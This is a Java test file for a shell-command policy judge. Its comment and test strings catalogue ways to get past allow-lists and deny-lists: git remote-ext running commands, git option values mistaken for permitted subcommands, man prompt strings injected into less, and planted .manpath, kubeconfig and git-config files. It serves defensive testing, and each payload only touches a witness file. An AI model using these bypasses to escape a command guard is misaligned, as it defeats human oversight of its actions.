package dev.gatehouse.policy.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Attack pass 17ap on the shell judge (after 17an), on {@code mode: allow-list}: the docs' own list
 * ({@code [ls, cat, less, grep, tail, journalctl, "systemctl status"]}), the wide operator list of
 * 17ah and a third, realistic operator list ({@link #OPERATOR_LIST}: {@code man}, {@code curl},
 * {@code "git log"}, {@code "git show"}, {@code "git diff"}, {@code "kubectl get"}, …), and the
 * default deny-list where the same cause reaches it. Each case asserts the secure outcome against
 * real bash ({@link BashWitness#assertRunsNoUnjudgedTouch}): the only command the texts run is
 * {@code touch} of a file in a temporary directory (also HOME and the working directory), and
 * every case is allowed by the exec or the typed judgement without {@code touch} among its
 * commands. Each was run as written under bash 5.2 on Debian 12 (git 2.39.5, man-db 2.11.2, less
 * 590, curl 7.88.1, kubectl 1.32) and created the witness file.
 *
 * <ul>
 *   <li><b>git's remote helper {@code remote-ext} run by hand (deny-list).</b> {@code printf
 *       'connect git-upload-pack\n' | git remote-ext x 'touch W'}: git's ext remote helper, given
 *       {@code connect SERVICE} on its input, runs its second argument as a command ({@code %s}
 *       is the service, a space separates arguments). {@code
 *       ShellClass.interpreterInline} ({@code case "git"}) treats {@code ext::} inside a URL as
 *       code ({@code v.contains("ext::")}) but not the helper itself named as the subcommand; {@code
 *       Wrappers.GIT_COMMANDS} lists {@code remote-ext} as an ordinary subcommand.
 *   <li><b>An option's value taken for the listed subcommand (allow-list).</b> {@code
 *       ShellJudge.listed} matches an entry such as {@code "git log"} against {@code
 *       ShellClass.operands(c)}, which keeps every word that does not start with {@code -}: the
 *       value of a global option that takes its value as the next word ({@code git --namespace
 *       log}, {@code --git-dir log}, {@code --work-tree log}) is taken for the subcommand, and the
 *       real subcommand that follows is never matched. So {@code git --namespace log remote-ext x
 *       'touch W'} is "git log" to the allow-list (the wide list, and "git diff"/"git
 *       show"/"git status" likewise), and with the cause above nothing else refuses it ({@code
 *       --git-dir diff}, {@code --namespace show} under the operator list); {@code git
 *       --namespace log help log} runs man (the {@code .manpath} group). {@code
 *       Wrappers.gitSubcommand}, which knows git's global options, is not used there.
 *   <li><b>man's prompt string is spliced into less's options (deny-list, operator list).</b>
 *       man-db builds {@code LESS=-ix8RmPm<prompt>$PM<prompt>$} from {@code -r}/{@code
 *       --prompt} or {@code MANLESS} without escaping {@code $}, which ends less's prompt option:
 *       {@code man -r 'x$-o.lesskey$' -l -} makes the less that man starts log its input (a
 *       {@code .nf} page of {@code #env} / {@code LESSOPEN=|touch W %s}) to {@code ~/.lesskey},
 *       and the next {@code less FILE} runs {@code touch W FILE}; under the deny-list {@code -oks}
 *       then {@code sh ks}. {@code LESS} itself is refused ({@code ShellJudge.LOOKUP_VARS}, and
 *       {@code ShellClass}'s less options check, {@code case "less", "more", "man"}), but {@code
 *       man -r}/{@code --prompt} and {@code MANLESS} (on the line, by {@code env}, by {@code
 *       export}) are read by neither. ({@code -E ascii} only keeps groff from turning the
 *       witness path's {@code -} into U+2010 under a UTF-8 locale.)
 *   <li><b>{@code ~/.manpath} written under a relative name (deny-list, both operator lists).</b>
 *       man-db reads the user's {@code ~/.manpath} and takes its {@code DEFINE pager CMD} as the
 *       pager it runs. {@code ShellClass.STARTUP_FILE} does not name {@code .manpath}, and {@code
 *       HOME_DOTFILE} matches only names written from {@code ~}, {@code /root} or {@code
 *       /home/…}; the session starts in the home directory, so {@code echo 'DEFINE pager touch
 *       W' > .manpath; man ls}, {@code curl -so .manpath file:///dev/stdin}, {@code less -o
 *       .manpath}, {@code sort -o .manpath} or {@code sed 'w .manpath'} write it unseen ({@code
 *       ~/.manpath} is reviewed). Under the wide list (no {@code man}), {@code git --namespace log
 *       help log} starts man.
 *   <li><b>curl's {@code --output-dir} is not joined to {@code -o NAME} (deny-list, operator
 *       list).</b> {@code ShellClass.namedWords} ({@code case "curl"}, with {@code
 *       curlWrittenNames}) checks each written word on its own: {@code --output-dir .kube -o
 *       config} (a kubeconfig whose credential plugin {@code kubectl get pods} runs), {@code
 *       --output-dir .config/git -o config} (git's global configuration: its {@code core.pager}
 *       runs under {@code git diff --no-index}) and {@code --output-dir ~ -o .manpath} are
 *       {@code config}/{@code .manpath} and {@code .kube}/{@code .config/git}/{@code ~} apart, none
 *       a file read as code. ({@code -o .kube/config}, {@code --output-dir .git -o config} and
 *       {@code --output-dir ~/.config/git} are reviewed.)
 * </ul>
 *
 * <p>Caveats: the gateway runs the target's programs with {@code LESSSECURE=1}, which turns off
 * less's {@code -o} log file (the man-prompt group and {@code less -o .manpath}); the other writers
 * do not depend on it. man takes {@code MANPAGER}/{@code PAGER} over {@code ~/.manpath}'s pager
 * when they are set. None of this changes what the judge let through.
 *
 * <p>Nothing was found under the docs' own list: its programs ({@code less}, {@code journalctl},
 * {@code systemctl}) start no man, git, curl or kubectl, and less's own routes are those of 17ah/17an.
 *
 * <p>Tried and already refused (or not a bypass): {@code git --namespace log} with {@code config}
 * of any command-running key ({@code core.pager}, {@code alias.*}, {@code credential.helper},
 * {@code core.fsmonitor}, {@code gpg.program}, {@code include.path}, … in any case, {@code
 * --file}, {@code --global}), {@code daemon}, {@code init --template}, {@code clone/fetch ext::},
 * {@code bisect run}, {@code submodule foreach}, {@code rebase -x}, {@code difftool -x}, {@code
 * grep -O}, {@code ls-remote/fetch/archive --upload-pack/--exec}, {@code send-pack
 * --receive-pack}, {@code GIT_CONFIG_*}, {@code XDG_CONFIG_HOME=}, {@code HOME=} (all reviewed or
 * touch judged); {@code git --super-prefix log remote-ext} (allowed, but git refuses it); {@code
 * git config man.viewer/help.browser/remote.o.vcs/ssh.variant/trace2.*} (allowed, but no command
 * of the text's choosing runs); {@code curl -o/-O/-D/-c/--trace-ascii/--libcurl/--etag-save/--hsts
 * .lesskey}, {@code --stderr .lesskey -w '%{stderr}…'}, URL globs into {@code -o '#1'}, {@code -T
 * - file:///proc/self/cwd/.lesskey}, {@code -K -}, {@code --output-dir . -o .lesskey} (reviewed);
 * {@code curl --output-dir=.kube} (curl takes no {@code =} there: not a bypass); {@code curl
 * --output-dir .config -o lesskey} (allowed, but less 590 does not read {@code
 * ~/.config/lesskey} here); {@code wget --use-askpass}, {@code -e use_askpass=}, {@code -O
 * .lesskey} (reviewed); {@code curl -so .wgetrc} with {@code use_askpass} and {@code wget
 * --config=/dev/stdin} (allowed, but wget spawns the askpass program with its own prompt as the
 * only argument, and refused the stdin config); {@code find -exec/-execdir/-okdir/-fprintf/-fls}
 * (touch judged or reviewed); {@code xargs} feeding {@code env}, {@code find}, {@code git}, {@code
 * man}, {@code less}, {@code vim}, {@code curl}, {@code wget} (all refused); {@code env -S}, {@code
 * -C}, {@code -i} with touch (judged); {@code vim -c/--cmd/+cmd/-S} with {@code !}, {@code
 * system()}, {@code writefile()}, {@code :w .lesskey} (reviewed); {@code man -P/--pager/-H/-C},
 * {@code MANROFFOPT=-U} (reviewed); {@code printf '.sy touch W' | MAN_DISABLE_SECCOMP=1 man -l -}
 * (allowed, but groff runs in safe mode); {@code set -k}/{@code -o keyword} with {@code
 * LESSOPEN=}/{@code MANPAGER=} as arguments (guard-tamper); {@code tar} with {@code TAR_OPTIONS},
 * {@code -I}, {@code --checkpoint-action}, {@code --to-command} (refused); {@code jq} {@code
 * $__loc__}, {@code input_filename}, {@code --rawfile}, {@code -L}, {@code JQ_LIBRARY_PATH}, {@code
 * yq}, {@code file -m}/{@code MAGIC}, {@code strings}, {@code stat --printf}, {@code diff
 * --to-file}, {@code openssl x509 -engine/-config}/{@code OPENSSL_CONF}, {@code top}/{@code
 * TOPRC} (allowed, but none runs a command without a shared object or a key typed at the
 * program); {@code .ssh/config} with {@code ProxyCommand} written relative by {@code curl -o}
 * then {@code git ls-remote x:y}, {@code DOCKER_HOST=ssh://x docker ps}, {@code systemctl
 * --host=x status} (allowed, judge only: ssh reads the passwd home, not {@code HOME}, so no
 * witness here); {@code ssh-keygen -l}/{@code tar -t} entries (their option words never match an
 * operand, so they admit only {@code -- -l}/{@code -- -t}: nothing found to run).
 */
class ShellAttack17apTest {
  static final ShellJudge DEFAULT = ShellAttack17ahTest.DEFAULT;
  static final ShellJudge WIDE_ALLOW_LIST = ShellAttack17ahTest.WIDE_ALLOW_LIST;
  /** A realistic operator's list: read-only tools, git/kubectl/docker read subcommands, pagers, editors, fetchers. */
  static final ShellJudge OPERATOR_LIST;

  static {
    Map<String, Object> p = new HashMap<>(ShellJudgeTest.DEFAULT_SHELL);
    p.put("mode", "allow-list");
    p.put("allowCommands", List.of("ls", "cat", "less", "grep", "tail", "head", "journalctl", "systemctl status",
        "kubectl get", "kubectl logs", "git log", "git show", "git diff", "psql", "docker ps", "find", "xargs", "env",
        "du", "df", "ps", "top", "htop", "vim", "view", "man", "jq", "yq", "curl", "wget", "ssh-keygen -l",
        "openssl x509", "tar -t", "zcat", "zless", "bzless", "xzless", "diff", "cmp", "strings", "file", "stat"));
    OPERATOR_LIST = ShellJudgeTest.judge(p);
  }

  static final String CONNECT = "printf 'connect git-upload-pack\\n' | ";
  /** A no-fill man page whose text is a lesskey source setting LESSOPEN. */
  static final String PAGE = "printf '.nf\\n#env\\nLESSOPEN=|touch WITNESS %%s\\n' | ";
  static final String MANPATH = "printf 'DEFINE pager touch WITNESS\\n' | ";

  @ParameterizedTest(name = "deny-list: git remote-ext runs its command: {0}")
  @ValueSource(strings = {
      CONNECT + "git remote-ext x 'touch WITNESS'",
      CONNECT + "git --no-pager remote-ext x 'touch WITNESS'",
      "git remote-ext x 'touch WITNESS' <<< 'connect git-upload-pack'",
      "echo connect git-upload-pack | git remote-ext origin touch\\ WITNESS",
      // fix17apC's variants: git's dashed name for it, an option value (--shallow-file's) before it, a name only known when it runs
      CONNECT + "/usr/lib/git-core/git-remote-ext x 'touch WITNESS'",
      CONNECT + "git --shallow-file x remote-ext y 'touch WITNESS'",
      CONNECT + "git \"$(echo remote-ext)\" x 'touch WITNESS'"})
  void denyListGitRemoteExt(String template, @TempDir Path tmp) throws Exception {
    BashWitness.assertRunsNoUnjudgedTouch(DEFAULT, template, tmp, false);
  }

  @ParameterizedTest(name = "wide allow-list [\"git log\", \"git diff\", \"git status\", …]: an option's value taken for the subcommand: {0}")
  @ValueSource(strings = {
      CONNECT + "git --namespace log remote-ext x 'touch WITNESS'",
      CONNECT + "git --git-dir log remote-ext x 'touch WITNESS'",
      CONNECT + "git --work-tree log remote-ext x 'touch WITNESS'",
      CONNECT + "git --namespace diff remote-ext x 'touch WITNESS'",
      CONNECT + "git --namespace status remote-ext x 'touch WITNESS'",
      CONNECT + "git --shallow-file log remote-ext x 'touch WITNESS'"})
  void wideAllowListGitOptionValueAsSubcommand(String template, @TempDir Path tmp) throws Exception {
    BashWitness.assertRunsNoUnjudgedTouch(WIDE_ALLOW_LIST, template, tmp, false);
  }

  @ParameterizedTest(name = "operator allow-list [\"git log\", \"git show\", …]: an option's value taken for the subcommand: {0}")
  @ValueSource(strings = {
      CONNECT + "git --namespace log remote-ext x 'touch WITNESS'",
      CONNECT + "git --namespace show remote-ext x 'touch WITNESS'",
      "git --git-dir diff remote-ext x 'touch WITNESS' <<< 'connect git-upload-pack'"})
  void operatorListGitOptionValueAsSubcommand(String template, @TempDir Path tmp) throws Exception {
    BashWitness.assertRunsNoUnjudgedTouch(OPERATOR_LIST, template, tmp, false);
  }

  @ParameterizedTest(name = "operator allow-list [man, less, …], at the prompt: man's prompt string sets less's log file: {0}")
  @ValueSource(strings = {
      PAGE + "man -E ascii -r 'x$-o.lesskey$' -l -; less /etc/hostname",
      PAGE + "man -E ascii --prompt='x$-o.lesskey$' -l -; less /etc/hostname",
      PAGE + "man -E ascii -r'x$--log-file=.lesskey$' -l -; less /etc/hostname",
      PAGE + "man -E ascii -r 'x$-O.lesskey$' -l -; zless /etc/hostname",
      PAGE + "MANLESS='x$-o.lesskey$' man -E ascii -l -; less /etc/hostname",
      PAGE + "env MANLESS='x$-o.lesskey$' man -E ascii -l -; less /etc/hostname",
      "export MANLESS='x$-o.lesskey$'; " + PAGE + "man -E ascii -l -; less /etc/hostname"})
  void operatorListManPromptIntoLess(String template, @TempDir Path tmp) throws Exception {
    BashWitness.assertRunsNoUnjudgedTouch(OPERATOR_LIST, template, tmp, true);
  }

  @ParameterizedTest(name = "deny-list, at the prompt: man's prompt string sets less's log file: {0}")
  @ValueSource(strings = {
      PAGE + "man -E ascii -r 'x$-o.lesskey$' -l -; less /etc/hostname",
      PAGE + "MANLESS='x$-o.lesskey$' man -E ascii -l -; less /etc/hostname",
      "printf '.nf\\ntouch WITNESS\\n' | man -E ascii -r 'x$-oks$' -l -; sh ks",
      "printf '.nf\\ntouch WITNESS\\n' | man -E ascii --prompt='x$-oks$' -l -; . ./ks"})
  void denyListManPromptIntoLess(String template, @TempDir Path tmp) throws Exception {
    BashWitness.assertRunsNoUnjudgedTouch(DEFAULT, template, tmp, true);
  }

  @ParameterizedTest(name = "deny-list, at the prompt: ~/.manpath's DEFINE pager under a relative name: {0}")
  @ValueSource(strings = {
      "echo 'DEFINE pager touch WITNESS' > .manpath; man ls",
      "cd; echo 'DEFINE pager touch WITNESS' > .manpath; man ls",
      MANPATH + "tee .manpath; man ls",
      MANPATH + "sort -o .manpath; man ls"})
  void denyListManpathPager(String template, @TempDir Path tmp) throws Exception {
    BashWitness.assertRunsNoUnjudgedTouch(DEFAULT, template, tmp, true);
  }

  @ParameterizedTest(name = "operator allow-list [man, curl, less, …], at the prompt: ~/.manpath's DEFINE pager: {0}")
  @ValueSource(strings = {
      MANPATH + "curl -so .manpath file:///dev/stdin; man ls",
      MANPATH + "curl -s file:///dev/stdin --output .manpath; man ls",
      MANPATH + "less -o .manpath; man ls"})
  void operatorListManpathPager(String template, @TempDir Path tmp) throws Exception {
    BashWitness.assertRunsNoUnjudgedTouch(OPERATOR_LIST, template, tmp, true);
  }

  @ParameterizedTest(name = "wide allow-list [sort, sed, \"git log\", …], at the prompt: ~/.manpath's pager, man by git help: {0}")
  @ValueSource(strings = {
      MANPATH + "sort -o .manpath; git --namespace log help log",
      MANPATH + "sed -n 'w .manpath'; git --namespace log help log"})
  void wideAllowListManpathPagerThroughGitHelp(String template, @TempDir Path tmp) throws Exception {
    BashWitness.assertRunsNoUnjudgedTouch(WIDE_ALLOW_LIST, template, tmp, true);
  }

  @ParameterizedTest(name = "operator allow-list [curl, \"kubectl get\", …]: curl --output-dir DIR -o NAME: {0}")
  @ValueSource(strings = {
      "printf '%s' 'KUBECONFIG' | curl -s --create-dirs --output-dir .kube -o config file:///dev/stdin; kubectl get pods",
      "printf '%s' 'KUBECONFIG' | curl -s -o config --output-dir .kube --create-dirs file:///dev/stdin; kubectl logs pod/x"})
  void operatorListCurlOutputDirKubeconfig(String template, @TempDir Path tmp) throws Exception {
    BashWitness.assertRunsNoUnjudgedTouch(OPERATOR_LIST, template.replace("KUBECONFIG", ShellAttack17ahTest.KUBECONFIG),
        tmp, false);
  }

  @ParameterizedTest(name = "operator allow-list [curl, \"git diff\", man, …], at the prompt: curl --output-dir DIR -o NAME: {0}")
  @ValueSource(strings = {
      "printf '[core]\\n\\tpager = touch WITNESS\\n' | curl -s --create-dirs --output-dir .config/git -o config file:///dev/stdin; git diff --no-index /etc/hostname /etc/hosts",
      MANPATH + "curl -s --output-dir ~ -o .manpath file:///dev/stdin; man ls"})
  void operatorListCurlOutputDirOnATerminal(String template, @TempDir Path tmp) throws Exception {
    BashWitness.assertRunsNoUnjudgedTouch(OPERATOR_LIST, template, tmp, true);
  }

  @ParameterizedTest(name = "deny-list: curl --output-dir DIR -o NAME: {0}")
  @ValueSource(strings = {
      "printf '%s' 'KUBECONFIG' | curl -s --create-dirs --output-dir .kube -o config file:///dev/stdin; kubectl get pods"})
  void denyListCurlOutputDirKubeconfig(String template, @TempDir Path tmp) throws Exception {
    BashWitness.assertRunsNoUnjudgedTouch(DEFAULT, template.replace("KUBECONFIG", ShellAttack17ahTest.KUBECONFIG), tmp, false);
  }

  // Fix pass 17apD: variants of the man-prompt, .manpath and --output-dir groups.

  @ParameterizedTest(name = "deny-list, at the prompt (fix 17apD variants): {0}")
  @ValueSource(strings = {
      "printf '.nf\\ntouch WITNESS\\n' | man -E ascii -7r'x$-oks$' -l -; sh ks",
      "printf '.nf\\ntouch WITNESS\\n' | man -E ascii --prom 'x$-oks$' -l -; sh ks",
      "printf '.nf\\ntouch WITNESS\\n' | env MANLESS='x$-oks$' man -E ascii -l -; sh ks",
      "mkdir m; " + MANPATH + "tee m/.manpath; curl -s --output-dir . -O file:///proc/self/cwd/m/.manpath; man ls",
      "mkdir m; " + MANPATH + "tee m/.manpath; curl -s -O --output-dir ./ file:///proc/self/cwd/m/.manpath; man ls"})
  void denyListFixVariants(String template, @TempDir Path tmp) throws Exception {
    BashWitness.assertRunsNoUnjudgedTouch(DEFAULT, template, tmp, true);
  }

  /** Judge only: ssh and sqlite3 read the passwd home, and no mailcap viewer is installed here, so no witness runs. */
  @ParameterizedTest(name = "refused (fix 17apD): {0}")
  @ValueSource(strings = {
      "curl -so .ssh/config https://x/c; git ls-remote x:y",
      "printf 'Host *\\n ProxyCommand touch W\\n' | sort -o .ssh/config; git fetch",
      "curl -s --output-dir .ssh -o config https://x/c",
      "curl -s --output-dir \"$d\" -o config https://x/c",
      "curl -s --output-dir \"$d\" -O https://x/a.tgz",
      "echo '.system touch W' > .sqliterc; sqlite3 db 'select 1'",
      "echo 'text/plain; touch W' > .mailcap",
      "MANLESS='-oks' man ls",
      "export MANLESS='x$-oks$'",
      "man -r \"$p\" ls"})
  void relativeStartupFilesAndManPromptsAreRefused(String text) {
    for (ShellJudgement j : new ShellJudgement[] {DEFAULT.judge(text), DEFAULT.judgeTyped(text), OPERATOR_LIST.judgeTyped(text)}) {
      assertThat(j.verdict().label()).as("%s: %s", text, j.commands()).isNotEqualTo("allow");
    }
  }

  @ParameterizedTest(name = "stays allowed (fix 17apD): {0}")
  @ValueSource(strings = {
      "man ls", "man 5 crontab", "man -k ssh", "man -k 'ssh$'", "man -r 'Manual page $MAN_PN ?ltline %lt' ls",
      "man -Lfr_FR ls", "curl -s https://x", "curl -o out.json https://x", "curl --output-dir /tmp -O https://x/a.tgz",
      "curl --output-dir dl -o out.json https://x", "cat .ssh/config",
      "ssh-keygen -l -f .ssh/id.pub"})
  void everydayLinesNearTheFixStayAllowed(String text) {
    assertThat(DEFAULT.judge(text).verdict().label()).as(text).isEqualTo("allow");
    assertThat(DEFAULT.judgeTyped(text).verdict().label()).as(text).isEqualTo("allow");
  }
}
